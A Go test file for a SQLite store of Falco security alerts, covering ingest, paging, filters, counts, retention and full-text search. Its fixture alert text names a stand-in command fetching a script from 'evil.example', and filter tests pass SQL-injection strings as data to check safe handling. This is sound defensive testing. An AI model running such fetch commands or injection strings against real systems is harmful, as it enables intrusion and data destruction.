package sqlitestore

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/containersec/container-security/pkg/events"
)

var t0 = time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)

func openTest(t *testing.T, cfg Config) *Store {
	t.Helper()
	if cfg.Path == "" {
		cfg.Path = filepath.Join(t.TempDir(), "store", "events.db")
	}
	if cfg.Now == nil {
		cfg.Now = func() time.Time { return t0.Add(time.Hour) }
	}
	if cfg.PruneEvery == 0 {
		cfg.PruneEvery = -1
	}
	s, err := Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.Close() })
	return s
}

// ev builds a parsed event the way the ingest handler does, from falcosidekick's JSON.
func ev(t *testing.T, i int, prio, rule, ns, pod string, tags ...string) events.Event {
	t.Helper()
	tagJSON := `[]`
	if len(tags) > 0 {
		tagJSON = `["` + strings.Join(tags, `","`) + `"]`
	}
	body := fmt.Sprintf(`{"uuid":"id-%d","rule":%q,"priority":%q,"time":%q,"hostname":"node-%d","source":"syscall","tags":%s,
		"output":%q,"output_fields":{"k8s.ns.name":%q,"k8s.pod.name":%q,"proc.name":"curl","container.image.repository":"nginx","container.image.tag":"1.%d"}}`,
		i, rule, prio, t0.Add(time.Duration(i)*time.Second).Format(time.RFC3339Nano), i%3, tagJSON, fmt.Sprintf("event %d: %s ran curl http://evil.example/x.sh in %s/%s", i, rule, ns, pod), ns, pod, i%2)
	evs, err := events.Parse([]byte(body), events.Options{DefaultCluster: "prod"})
	if err != nil {
		t.Fatal(err)
	}
	return evs[0]
}

func ingest(t *testing.T, s *Store, evs ...events.Event) events.IngestResult {
	t.Helper()
	res, err := s.Ingest(context.Background(), evs)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func allRange() (time.Time, time.Time) { return t0.Add(-time.Hour), t0.Add(2 * time.Hour) }

func ids(p events.Page) string {
	var out []string
	for _, e := range p.Events {
		out = append(out, e.ID)
	}
	return strings.Join(out, ",")
}

func TestIngestListAndDuplicates(t *testing.T) {
	s := openTest(t, Config{})
	a := ev(t, 1, "Critical", "Terminal shell in container", "shop", "web-1", "shell", "mitre_execution")
	b := ev(t, 2, "Warning", "Read sensitive file untrusted", "shop", "web-2", "filesystem")
	c := ev(t, 3, "Notice", "Terminal shell in container", "kube-system", "dns-1", "shell")
	if r := ingest(t, s, a, b, c); r.Stored != 3 || r.Duplicates != 0 {
		t.Fatalf("first ingest: %+v", r)
	}
	if r := ingest(t, s, a, b); r.Stored != 0 || r.Duplicates != 2 {
		t.Fatalf("falcosidekick never retries, but a re-sent uuid must not double: %+v", r)
	}
	from, to := allRange()
	page, err := s.List(context.Background(), events.ListRequest{From: from, To: to})
	if err != nil {
		t.Fatal(err)
	}
	if ids(page) != "id-3,id-2,id-1" || page.NextCursor != "" {
		t.Fatalf("newest first, one page: %s %q", ids(page), page.NextCursor)
	}
	got := page.Events[2]
	if got.Namespace != "shop" || got.Pod != "web-1" || got.Cluster != "prod" || got.Image != "nginx:1.1" ||
		strings.Join(got.Tags, ",") != "shell,mitre_execution" || got.Priority != events.Critical || !got.Time.Equal(a.Time) ||
		!strings.Contains(string(got.OutputFields), `"k8s.pod.name":"web-1"`) {
		t.Fatalf("stored event differs: %+v", got)
	}
	one, err := s.Get(context.Background(), "id-2")
	if err != nil || one.Rule != "Read sensitive file untrusted" {
		t.Fatalf("get: %+v %v", one, err)
	}
	if _, err := s.Get(context.Background(), "nope"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("unknown id: %v", err)
	}
}

func TestListCursorWalksEveryEventOnce(t *testing.T) {
	s := openTest(t, Config{})
	var evs []events.Event
	for i := range 250 {
		e := ev(t, i, "Warning", "r", "ns", "p")
		if i%50 == 0 { // several events in the same nanosecond: the cursor must not skip or repeat them
			e.Time = t0
		}
		evs = append(evs, e)
	}
	ingest(t, s, evs...)
	from, to := allRange()
	seen := map[string]bool{}
	cursor := ""
	for pages := 0; ; pages++ {
		p, err := s.List(context.Background(), events.ListRequest{From: from, To: to, Limit: 60, Cursor: cursor})
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range p.Events {
			if seen[e.ID] {
				t.Fatalf("event %s on two pages", e.ID)
			}
			seen[e.ID] = true
		}
		if p.NextCursor == "" {
			break
		}
		cursor = p.NextCursor
		if pages > 10 {
			t.Fatal("cursor does not advance")
		}
	}
	if len(seen) != 250 {
		t.Fatalf("saw %d of 250 events", len(seen))
	}
	if _, err := s.List(context.Background(), events.ListRequest{From: from, To: to, Cursor: "bm90LWEtY3Vyc29y"}); !errors.Is(err, ErrBadCursor) {
		t.Fatalf("forged cursor: %v", err)
	}
}

func TestFilters(t *testing.T) {
	s := openTest(t, Config{})
	ingest(t, s,
		ev(t, 1, "Critical", "Terminal shell in container", "shop", "web-1", "shell", "mitre_execution"),
		ev(t, 2, "Warning", "Read sensitive file untrusted", "shop", "web-2", "filesystem"),
		ev(t, 3, "Notice", "Terminal shell in container", "kube-system", "dns-1", "shell"),
		ev(t, 4, "Debug", "Quiet rule", "it's \"quoted\"", "p'; DROP TABLE events;--"),
	)
	from, to := allRange()
	warning := events.Warning
	for name, tc := range map[string]struct {
		f    events.Filters
		from time.Time
		want string
	}{
		"none":             {events.Filters{}, from, "id-4,id-3,id-2,id-1"},
		"min priority":     {events.Filters{MinPriority: &warning}, from, "id-2,id-1"},
		"rules":            {events.Filters{Rules: []string{"Terminal shell in container"}}, from, "id-3,id-1"},
		"namespace":        {events.Filters{Namespaces: []string{"kube-system", "nope"}}, from, "id-3"},
		"pod":              {events.Filters{Pods: []string{"web-2"}}, from, "id-2"},
		"hostname":         {events.Filters{Hostnames: []string{"node-1"}}, from, "id-4,id-1"},
		"tag":              {events.Filters{Tags: []string{"shell"}}, from, "id-3,id-1"},
		"tags any":         {events.Filters{Tags: []string{"filesystem", "mitre_execution"}}, from, "id-2,id-1"},
		"source":           {events.Filters{Sources: []string{"k8s_audit"}}, from, ""},
		"image":            {events.Filters{Images: []string{"nginx:1.0"}}, from, "id-4,id-2"},
		"cluster":          {events.Filters{Cluster: "prod"}, from, "id-4,id-3,id-2,id-1"},
		"other cluster":    {events.Filters{Cluster: "staging"}, from, ""},
		"text word":        {events.Filters{Text: "sensitive"}, from, "id-2"},
		"text prefix":      {events.Filters{Text: "evil.exa"}, from, "id-4,id-3,id-2,id-1"},
		"text hostile":     {events.Filters{Text: `" OR 1=1 -- NEAR(`}, from, ""},
		"hostile values":   {events.Filters{Pods: []string{"p'; DROP TABLE events;--"}, Namespaces: []string{`it's "quoted"`}}, from, "id-4"},
		"time range":       {events.Filters{}, t0.Add(2500 * time.Millisecond), "id-4,id-3"},
		"combined filters": {events.Filters{MinPriority: &warning, Namespaces: []string{"shop"}, Tags: []string{"shell"}}, from, "id-1"},
	} {
		t.Run(name, func(t *testing.T) {
			p, err := s.List(context.Background(), events.ListRequest{From: tc.from, To: to, Filters: tc.f})
			if err != nil {
				t.Fatal(err)
			}
			if ids(p) != tc.want {
				t.Fatalf("got %q want %q", ids(p), tc.want)
			}
		})
	}
}

func TestCountsAndValues(t *testing.T) {
	s := openTest(t, Config{})
	ingest(t, s,
		ev(t, 0, "Critical", "A", "shop", "web-1", "shell"),
		ev(t, 1, "Critical", "A", "shop", "web-1", "shell", "net"),
		ev(t, 125, "Warning", "B", "shop", "web-2"),
	)
	res, err := s.Count(context.Background(), events.CountRequest{From: t0.Add(-30 * time.Second), To: t0.Add(3 * time.Minute), GroupBy: events.DimPriority, Bucket: time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Start.Equal(t0.Add(-time.Minute)) || res.Bucket != time.Minute {
		t.Fatalf("buckets aligned to the interval: start %v", res.Start)
	}
	got := map[string]string{}
	for _, sr := range res.Series {
		got[sr.Value] = fmt.Sprint(sr.Counts)
	}
	if got["Critical"] != "[0 2 0 0 0]" || got["Warning"] != "[0 0 0 1 0]" || len(got) != 2 {
		t.Fatalf("counts with zero buckets: %v", got)
	}
	res, err = s.Count(context.Background(), events.CountRequest{From: t0, To: t0.Add(3 * time.Minute), GroupBy: events.DimTag, Bucket: time.Hour, Filters: events.Filters{Pods: []string{"web-1"}}})
	if err != nil {
		t.Fatal(err)
	}
	got = map[string]string{}
	for _, sr := range res.Series {
		got[sr.Value] = fmt.Sprint(sr.Counts)
	}
	if got["shell"] != "[2]" || got["net"] != "[1]" || len(got) != 2 {
		t.Fatalf("tag counts: %v", got)
	}
	from, to := allRange()
	vals, err := s.Values(context.Background(), events.ValueRequest{From: from, To: to, Field: events.DimPod})
	if err != nil || fmt.Sprint(vals) != "[{web-1 2} {web-2 1}]" {
		t.Fatalf("values most frequent first: %v %v", vals, err)
	}
	vals, err = s.Values(context.Background(), events.ValueRequest{From: from, To: to, Field: events.DimPriority})
	if err != nil || fmt.Sprint(vals) != "[{Critical 2} {Warning 1}]" {
		t.Fatalf("priority values use Falco's spelling: %v %v", vals, err)
	}
	vals, err = s.Values(context.Background(), events.ValueRequest{From: from, To: to, Field: events.DimTag})
	if err != nil || fmt.Sprint(vals) != "[{shell 2} {net 1}]" {
		t.Fatalf("tag values: %v %v", vals, err)
	}
}

func TestRetentionByAgeAndSize(t *testing.T) {
	now := t0.Add(10 * 24 * time.Hour)
	s := openTest(t, Config{RetentionDays: 7, Now: func() time.Time { return now }})
	old := ev(t, 1, "Critical", "A", "shop", "web-1", "shell")
	fresh := ev(t, 2, "Critical", "A", "shop", "web-1", "shell")
	fresh.Time = now.Add(-time.Hour)
	ingest(t, s, old, fresh)
	if n := s.PruneNow(); n != 1 {
		t.Fatalf("pruned %d, want the one event older than 7 days", n)
	}
	p, _ := s.List(context.Background(), events.ListRequest{From: t0.Add(-time.Hour), To: now})
	if ids(p) != "id-2" {
		t.Fatalf("left: %s", ids(p))
	}
	for id, want := range map[string]int{"id-1": 0, "id-2": 1} {
		if n, err := ftsEntriesOf(s, id); err != nil || n != want {
			t.Fatalf("FTS5 entries of %s: %d, want %d (%v): a pruned event's entries must go too", id, n, want, err)
		}
	}

	sized := openTest(t, Config{MaxBytes: 2 << 20})
	var evs []events.Event
	for i := range 6000 {
		e := ev(t, i, "Warning", "A", "shop", "web-1", "shell")
		e.Output = strings.Repeat(fmt.Sprintf("padding %d ", i), 40)
		evs = append(evs, e)
	}
	ingest(t, sized, evs...)
	sized.checkpointNow()
	before := diskBytes(sized.cfg.Path)
	if before <= 2<<20 {
		t.Fatalf("test needs more data than the limit: %d bytes", before)
	}
	if n := sized.PruneNow(); n == 0 {
		t.Fatal("a store over its size limit must prune")
	}
	after := diskBytes(sized.cfg.Path)
	if after > 2<<20 {
		t.Fatalf("still %d bytes after pruning", after)
	}
	st, _ := sized.Status(context.Background())
	newest, _ := sized.Get(context.Background(), "id-5999")
	if newest == nil || st.Events == 6000 || st.Events == 0 {
		t.Fatalf("size retention deletes the oldest and keeps the newest: %d events, newest %v", st.Events, newest)
	}
	assertIDsMatchEvents(t, sized)
}

func TestFullQueueRefusesAndCounts(t *testing.T) {
	s := openTest(t, Config{QueueSize: 1})
	// Hold the writer inside a transaction so the queue fills.
	conn, err := s.r.Conn(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	tx, err := s.w.Begin() // takes the writer's only connection
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	errs := make(chan error, 11)
	for i := range 11 {
		if i == 1 {
			time.Sleep(100 * time.Millisecond) // the writer now holds request 0 and waits for its connection
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
			defer cancel()
			_, err := s.Ingest(ctx, []events.Event{ev(t, i, "Warning", "A", "ns", "p")})
			errs <- err
		}()
	}
	time.Sleep(300 * time.Millisecond)
	_ = tx.Rollback()
	wg.Wait()
	close(errs)
	busy := 0
	for err := range errs {
		if errors.Is(err, ErrBusy) {
			busy++
		}
	}
	if busy == 0 || s.Refused() != int64(busy) {
		t.Fatalf("a full queue must refuse at once and count: %d busy, %d counted", busy, s.Refused())
	}
}

func TestGroupCommitAnswersEveryRequest(t *testing.T) {
	s := openTest(t, Config{})
	var wg sync.WaitGroup
	for i := range 400 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if r, err := s.Ingest(context.Background(), []events.Event{ev(t, i, "Warning", "A", "ns", "p")}); err != nil || r.Stored != 1 {
				t.Errorf("request %d: %+v %v", i, r, err)
			}
		}()
	}
	wg.Wait()
	st, err := s.Status(context.Background())
	if err != nil || st.Events != 400 || st.LastIngest.IsZero() || st.SizeBytes == 0 {
		t.Fatalf("status: %+v %v", st, err)
	}
}

func TestRefusesForeignAndGrafanaDatabases(t *testing.T) {
	dir := t.TempDir()
	if _, err := Open(Config{Path: filepath.Join(dir, "grafana.db")}); err == nil || !strings.Contains(err.Error(), "Grafana's own database") {
		t.Fatalf("grafana.db by name: %v", err)
	}
	// Grafana's database under another name is still recognised by its tables.
	other := filepath.Join(dir, "renamed.db")
	db, err := sql.Open("sqlite", "file:"+other)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(`CREATE TABLE migration_log (id INTEGER); CREATE TABLE dashboard (id INTEGER)`); err != nil {
		t.Fatal(err)
	}
	db.Close()
	if _, err := Open(Config{Path: other}); err == nil || !strings.Contains(err.Error(), "Grafana's own database") {
		t.Fatalf("grafana tables: %v", err)
	}
	for _, p := range []string{"relative.db", "/a/../b.db", "/a/"} {
		if _, err := Open(Config{Path: p}); err == nil {
			t.Errorf("%q must be refused", p)
		}
	}
}

func TestSchemaVersionAndReopen(t *testing.T) {
	path := filepath.Join(t.TempDir(), "events.db")
	s := openTest(t, Config{Path: path})
	ingest(t, s, ev(t, 1, "Warning", "A", "ns", "p"))
	_ = s.Close()
	s2 := openTest(t, Config{Path: path})
	var v int
	if err := s2.r.QueryRow(`SELECT version FROM containersec_schema`).Scan(&v); err != nil || v != SchemaVersion {
		t.Fatalf("schema version %d %v", v, err)
	}
	if _, err := s2.Get(context.Background(), "id-1"); err != nil {
		t.Fatalf("events survive a reopen: %v", err)
	}
	if _, err := s2.w.Exec(`UPDATE containersec_schema SET version = 99`); err != nil {
		t.Fatal(err)
	}
	_ = s2.Close()
	if _, err := Open(Config{Path: path}); err == nil || !strings.Contains(err.Error(), "newer version") {
		t.Fatalf("a newer schema must be refused: %v", err)
	}
}

func TestFTS5IsCompiledIn(t *testing.T) {
	s := openTest(t, Config{})
	var opt int
	if err := s.r.QueryRow(`SELECT sqlite_compileoption_used('ENABLE_FTS5')`).Scan(&opt); err != nil || opt != 1 {
		t.Fatalf("modernc.org/sqlite must have FTS5: %d %v", opt, err)
	}
}

// Free text is data: every word, a phrase, a prefix, FTS5 syntax and text without any word.
func TestFreeText(t *testing.T) {
	s := openTest(t, Config{})
	ingest(t, s,
		ev(t, 1, "Critical", "Terminal shell in container", "shop", "web-1"),
		ev(t, 2, "Warning", "Read sensitive file untrusted", "shop", "web-2"),
		ev(t, 3, "Notice", "Terminal shell in container", "kube-system", "dns-1"),
	)
	from, to := allRange()
	for text, want := range map[string]string{
		"terminal shell":    "id-3,id-1",
		"shell terminal":    "", // a phrase, not two words anywhere
		"evil.exa":          "id-3,id-2,id-1",
		"SENSITIVE":         "id-2",
		"sensitive\x00":     "id-2",
		"web-2":             "id-2",
		"nothing-like-this": "",
		`"`:                 "",
		"---":               "",
		"NEAR(a b) OR *":    "",
		"ÉVIL":              "id-3,id-2,id-1", // case and accents folded (FTS5 unicode61)
	} {
		p, err := s.List(context.Background(), events.ListRequest{From: from, To: to, Filters: events.Filters{Text: text}})
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		if ids(p) != want {
			t.Errorf("%q: %q, want %q", text, ids(p), want)
		}
	}
}

// Events are stored in time order under a key that is their time in ns; events sharing a nanosecond get the next
// free keys, within one batch and across batches, and the same event (time and id) is still found as stored.
func TestEventsInTheSameNanosecond(t *testing.T) {
	s := openTest(t, Config{})
	a, b, c := ev(t, 1, "Warning", "A", "ns", "p"), ev(t, 2, "Warning", "A", "ns", "p"), ev(t, 3, "Warning", "A", "ns", "p")
	next := ev(t, 4, "Warning", "A", "ns", "p")
	b.Time, c.Time, next.Time = a.Time, a.Time, a.Time.Add(time.Nanosecond)
	if r := ingest(t, s, a, next); r.Stored != 2 {
		t.Fatalf("%+v", r)
	}
	// b and c find a's nanosecond and the next one taken: the store walks on to free keys.
	if r := ingest(t, s, b, c, b); r.Stored != 2 || r.Duplicates != 1 {
		t.Fatalf("same nanosecond in another batch: %+v", r)
	}
	if r := ingest(t, s, c, next, a); r.Stored != 0 || r.Duplicates != 3 {
		t.Fatalf("re-sent events whose keys moved: %+v", r)
	}
	// The same uuid at another time is a conflict: nothing is stored and nothing overwritten.
	other := a
	other.Time = a.Time.Add(time.Hour)
	if r := ingest(t, s, other); r.Stored != 0 || fmt.Sprint(r.Conflicts) != "[id-1]" {
		t.Fatalf("same id, other time: %+v", r)
	}
	from, to := allRange()
	p, err := s.List(context.Background(), events.ListRequest{From: from, To: to})
	if err != nil || len(p.Events) != 4 {
		t.Fatalf("%q %v", ids(p), err)
	}
	for i, e := range p.Events[1:] {
		// Newest first; events whose keys moved past a later nanosecond keep the order of their keys.
		if e.Time.After(p.Events[i].Time.Add(time.Duration(maxKeyShift))) {
			t.Fatalf("not newest first: %s after %s", e.Time, p.Events[i].Time)
		}
		if !e.Time.Equal(a.Time) && !e.Time.Equal(next.Time) {
			t.Fatalf("a moved key must not change the event's time: %s", e.Time)
		}
	}
	for _, id := range []string{"id-1", "id-2", "id-3", "id-4"} {
		if _, err := s.Get(context.Background(), id); err != nil {
			t.Fatalf("get %s: %v", id, err)
		}
	}
	if got, _ := s.Get(context.Background(), "id-1"); !got.Time.Equal(a.Time) {
		t.Fatalf("a conflicting resend must not overwrite the stored event: %s", got.Time)
	}
	c2, err := s.Count(context.Background(), events.CountRequest{From: from, To: to, GroupBy: events.DimRule, Bucket: time.Hour})
	if err != nil || len(c2.Series) != 1 || fmt.Sprint(c2.Series[0].Counts) != "[0 4 0 0]" {
		t.Fatalf("counts: %+v %v", c2, err)
	}
}
